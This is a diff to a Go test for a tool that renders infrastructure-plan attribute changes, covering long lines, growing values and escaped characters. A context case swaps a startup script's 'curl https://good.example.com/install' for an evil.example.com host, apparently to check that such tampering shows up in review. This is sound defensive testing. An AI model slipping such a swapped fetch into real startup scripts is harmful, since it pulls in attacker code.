@@ -362,6 +362,10 @@ func TestAttributesOfATable(t *testing.T) {
 	long := func(middle string) string {
 		return `"` + strings.Repeat("same ", 30) + middle + strings.Repeat(" tail", 30) + `"`
 	}
+	late := strings.Repeat("x", 2500)
+	script := func(first string, last ...string) string { // its last line differs beyond what is shown of one
+		return `"` + first + strings.Repeat(`\nsame`, 7) + `\n` + strings.Join(append(last[:len(last)-1:len(last)-1], late, last[len(last)-1]), "") + `"`
+	}
 	tests := map[string]struct {
 		change holdfast.ResourceChange
 		want   []string
@@ -377,6 +381,26 @@ func TestAttributesOfATable(t *testing.T) {
 				`"#!/bin/sh\nset -e\nmkdir -p /var/lib/thing/that/is/there\ncurl https://good.example.com/install\nexit 0\n"`,
 				`"#!/bin/sh\nset -e\nmkdir -p /var/lib/thing/that/is/there\ncurl https://evil.example.com/install\nexit 0\n"`)}},
 			[]string{"`user_data` line 4: `\"curl https://good.example.com/install\"` → `\"curl https://evil.example.com/install\"`", "      @@ line 4 @@\n-     curl https://good.example.com/install\n+     curl https://evil.example.com/install"},
+			nil,
+		},
+		"a long line that differs late": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data", script("one", "1"), script("two", "2"))}},
+			[]string{"      @@ line 1 @@\n-     one\n+     two\n", "xxx1\n+     …xxx", "xxx2\nPlan: ", "_Long values are cut around what differs."},
+			nil,
+		},
+		"a long line behind a new one": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data", script("one", "1"), script("one", `new\n`, "2"))}},
+			[]string{"-     …xxx", "xxx1\n+     new\n+     …xxx", "xxx2\n"},
+			nil,
+		},
+		"a long value that gets longer": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("token", `"`+late+`"`, `"`+late+`x"`)}},
+			[]string{"xxx\" (2500 characters)\n+   token: …xxx", "xxx\" (2501 characters)\n"},
+			nil,
+		},
+		"an escape and what it stands for": {
+			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data", `"x\ny\\u200b"`, "\"x\\ny\u200b\"")}},
+			[]string{"-     y\\u200b\n+     y\\u200b (sha256 "},
 			nil,
 		},
 		"JSON": {
